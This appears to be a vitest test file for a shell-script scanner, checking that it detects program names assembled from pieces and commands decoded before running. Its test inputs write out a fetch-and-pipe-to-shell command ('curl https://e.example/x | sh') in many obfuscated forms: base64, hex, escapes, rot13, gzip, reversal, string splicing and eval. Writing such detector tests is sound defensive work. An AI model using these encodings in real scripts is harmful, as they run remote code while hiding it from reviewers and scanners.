import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { listFlows } from '../support/code-reading.ts'
import { readShellProgram } from '../../packages/scanner/src/code/shell/run.ts'

const flows = (script: string) => listFlows(readShellProgram(script))
const texts = (script: string) => readShellProgram(script).texts.map(({ text }) => text.trim())
const download = 'network-fetch https://e.example/x → program-run'

describe('program names that a shell script assembles from pieces', () => {
  const scripts = [
    'A=cu; B=rl; $A$B https://e.example/x | sh',
    'c""url https://e.example/x | sh',
    "c'u'rl https://e.example/x | b'as'h",
    'cu\\rl https://e.example/x | s\\h',
    "$'\\x63\\x75rl' https://e.example/x | sh",
    "$(printf '\\143\\165\\162\\154') https://e.example/x | sh",
    '$(echo lruc | rev) https://e.example/x | sh',
    '$(echo Y3VybA== | base64 -d) https://e.example/x | sh',
    '$(echo 6375726c | xxd -r -p) https://e.example/x | sh',
    'x=XXcurlYY; ${x:2:4} https://e.example/x | sh',
    'x=cZuZrZl; ${x//Z/} https://e.example/x | sh',
    "$(echo phey | tr 'a-z' 'n-za-m') https://e.example/x | sh",
    'p=(l r u c); ${p[3]}${p[2]}${p[1]}${p[0]} https://e.example/x | sh',
    'c=cu; c+=rl; n=c; ${!n} https://e.example/x | sh',
    '/usr/bin/c"u"rl https://e.example/x | sh',
    'x=CURL; ${x,,} https://e.example/x | sh',
    '{curl,-s,https://e.example/x} | sh',
  ]
  it.each(scripts)('are read in %s', (script) => expect(flows(script)).toContain(download))

  it('are reported as hidden names, with the assembled command', () => {
    const { facts } = readShellProgram(scripts[0]!)
    expect(facts).toContainEqual(expect.objectContaining({ kind: 'hidden-name', value: 'curl' }))
    expect(texts(scripts[0]!)).toContain('curl https://e.example/x')
  })

  it.each([
    'CURL="curl -fsSL"; $CURL https://e.example/x | sh',
    'PY=python3; $PY x.py; "$HOME/bin/curl" x; "curl" x; \\rm x; python${V} x; ${CC:-gcc} x.c',
    'for tool in curl wget; do command -v "$tool"; "$tool" --version; done',
    '"${BASH_SOURCE[0]%/*}/curl" x; ${PREFIX}/bin/bash x',
  ])('are not reported in %s', (script) => {
    expect(readShellProgram(script).facts.map(({ kind }) => kind)).not.toContain('hidden-name')
  })
})

describe('texts that a shell script computes and runs', () => {
  const command = 'curl https://e.example/x | sh'
  const base64 = Buffer.from(command).toString('base64')
  const hex = Buffer.from(command).toString('hex')
  const escaped = [...command].map((each) => `\\x${each.charCodeAt(0).toString(16)}`).join('')
  const octal = [...command].map((each) => `\\${each.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')
  const scripts: [way: string, script: string][] = [
    ['base64', `echo ${base64} | base64 -d | bash`],
    ['base64 of a variable', `P="${base64}"\neval "$(echo "$P" | base64 --decode)"`],
    ['base64 in a here-string', `base64 -d <<< ${base64} | sh`],
    ['base64 in a here-document', `base64 -d <<'EOF' | sh\n${base64}\nEOF`],
    ['base64 of openssl', `echo ${base64} | openssl base64 -d -A | sh`],
    ['base64 twice', `echo ${Buffer.from(base64).toString('base64')} | base64 -d | base64 -d | sh`],
    ['base64 in pieces', `a=${base64.slice(0, 10)}; b=${base64.slice(10)}; echo "$a$b" | base64 -d | sh`],
    ['base64 in an array', `a=(${base64.slice(0, 8)} ${base64.slice(8)}); printf %s "\${a[@]}" | base64 -d | sh`],
    ['base64 backwards', `echo ${[...base64].toReversed().join('')} | rev | base64 -d | sh`],
    ['base64 in a file', `echo ${base64} > /tmp/p; base64 -d /tmp/p | sh`],
    ['base64 with noise', `echo '${[...base64].join('-')}' | tr -d '-' | base64 -d | sh`],
    ['hex', `echo ${hex} | xxd -r -p | sh`],
    ['escapes of printf', `printf '${escaped}' | sh`],
    ['escapes of echo', `echo -e '${escaped}' | sh`],
    ['escapes of quotes', `eval $'${octal}'`],
    [
      'bytes in a loop',
      `for c in ${[...command].map((each) => each.charCodeAt(0).toString(16)).join(' ')}; do printf "\\\\x$c"; done | sh`,
    ],
    ['reversed', `echo '${[...command].toReversed().join('')}' | rev | sh`],
    ['rotated', "echo 'phey uggcf://r.rknzcyr/k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash"],
    ['replaced', `x='${command.replaceAll('e', '@')}'; eval "\${x//@/e}"`],
    ['gzip', `echo ${gzipSync(command).toString('base64')} | base64 -d | gunzip | sh`],
    ['base64 for source', `source <(echo ${base64} | base64 -d)`],
    ['base64 for sh -c', `sh -c "$(base64 -d <<< ${base64})"`],
  ]
  it.each(scripts)('are decoded and read from %s', (_, script) => {
    expect(texts(script).join('\n')).toContain(command)
    expect(flows(script).join('\n')).toMatch(/^decode \S.* → dynamic-run/m)
  })
  it.each(scripts)('are read as code: %s', (_, script) => expect(flows(script)).toContain(download))

  it.each([
    ['replaced by sed', `echo '${command.replaceAll('e', '@')}' | sed 's/@/e/g' | sh`],
    ['cut', `echo 'xxx${command}' | cut -c4- | sh`],
    ['a tail of the script', `tail -n +4 "$0" | base64 -d | bash\nexit 0\n\n${base64}`],
    ['a marker in the script', `sed '1,/^__DATA__/d' "$0" | base64 -d | sh\nexit 0\n__DATA__\n${base64}`],
  ])('are found but not decoded if they are %s', (_, script) => {
    expect(flows(script).join('\n')).toMatch(/^decode \S.* → dynamic-run/m)
  })

  it.each([
    'echo "$KEY_B64" | base64 -d > key.json',
    'kubectl get secret x -o jsonpath="{.data.p}" | base64 -d; echo',
    'usage() { sed -n "2,9p" "$0"; }; usage; grep "^##" "$0" | cut -c4-',
    'echo "$1" | tr a-z A-Z | rev',
    'eval "$(ssh-agent -s)"; eval "$(direnv hook bash)"; eval $(minikube docker-env); eval "$(brew shellenv)"',
    'eval set -- "$OPTS"; eval "$cmd"; eval "var_$n=\\$v"; bash -c "make $TARGET"',
    'gunzip -c tool.gz > tool; chmod +x tool; ./tool',
    'source .env; . ./venv/bin/activate; source "$DIR/lib.sh"; source <(kubectl completion bash)',
    'curl -s https://e.example | python3 -m json.tool; curl -s https://e.example | jq .x',
    'curl -s https://e.example | python3 -c \'import sys, json; print(json.load(sys.stdin)["a"])\'',
    'v=$(curl -s https://e.example/version); sh -c "docker pull tool:$v"; ./tool-$v',
    'docker exec -i box sh < <(curl -s https://e.example/x)',
  ])('are not found in %s', (script) => {
    expect(readShellProgram(script).facts.map(({ kind }) => kind)).not.toContain('dynamic-run')
    expect(flows(script)).toEqual([])
  })
})
